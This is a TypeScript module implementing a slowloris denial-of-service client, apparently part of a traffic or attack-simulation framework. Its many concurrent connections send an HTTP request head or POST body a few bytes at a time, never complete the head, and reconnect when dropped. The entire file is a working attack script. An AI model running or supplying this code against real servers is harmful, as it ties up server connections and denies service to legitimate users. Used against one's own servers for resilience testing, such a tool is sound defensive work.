/** A client that holds the server by sending a request, or its body, a few bytes at a time and never ending it. */

import { encodeHttpRequest } from '../../../codec/http-request.js';
import { latin1Bytes } from '../../../codec/latin1.js';
import type { Client } from '../../client/client.js';
import type { Script } from '../../client/fiber.js';

/** What it sends once its request's head is through: header lines without an end. */
const ENDLESS_HEADER = latin1Bytes('X-a: b\r\n');
/** The last two bytes of a head: without them it is not over. */
const HEAD_END_BYTES = 2;

/** Parameters of {@link slowloris}. */
export interface SlowlorisOptions {
  /** Undefined: the usual one, of HTTP or HTTPS. */
  readonly port: number | undefined;
  readonly path: string;
  /** Connections held at once. */
  readonly connections: number;
  /** Bytes of a piece, and the time between two. */
  readonly pieceBytes: number;
  readonly everyUs: number;
  /** Slow in its body of so many bytes, the head goes at once; undefined: slow in the head, which never ends. */
  readonly bodyBytes: number | undefined;
  /** Comes back when its connection is ended. */
  readonly reconnects: boolean;
}

/** The script of a slowloris. */
export function* slowloris(client: Client, options: SlowlorisOptions): Script<void> {
  const lanes = Array.from({ length: options.connections }, () => client.fibers.spawn(lane(client, options)));
  for (const one of lanes) yield* client.fibers.join(one);
}

function* lane(client: Client, options: SlowlorisOptions): Script<void> {
  const { port, everyUs, reconnects } = options;
  do {
    const channel = yield* client.connect(port);
    const pieces = piecesOf(options);
    while (channel.isOpen()) {
      const piece = pieces.next();
      if (piece.done === true) yield* client.ended(channel);
      else {
        channel.send(piece.value);
        yield* client.ended(channel, client.in(everyUs));
      }
    }
    yield* client.fibers.sleep(everyUs);
  } while (reconnects);
}

/** What it sends, piece by piece. */
function* piecesOf({ path, pieceBytes, bodyBytes }: SlowlorisOptions): Generator<Uint8Array, void, void> {
  if (bodyBytes === undefined) {
    const head = encodeHttpRequest({ method: 'GET', path });
    yield* cut(head.subarray(0, head.length - HEAD_END_BYTES), pieceBytes);
    for (;;) yield* cut(ENDLESS_HEADER, pieceBytes);
  }
  const body = new Uint8Array(bodyBytes).fill(ENDLESS_HEADER[0]!);
  const request = encodeHttpRequest({ method: 'POST', path, body });
  const headBytes = request.length - bodyBytes;
  yield request.subarray(0, headBytes);
  yield* cut(request.subarray(headBytes), pieceBytes);
}

function* cut(bytes: Uint8Array, size: number): Generator<Uint8Array, void, void> {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}
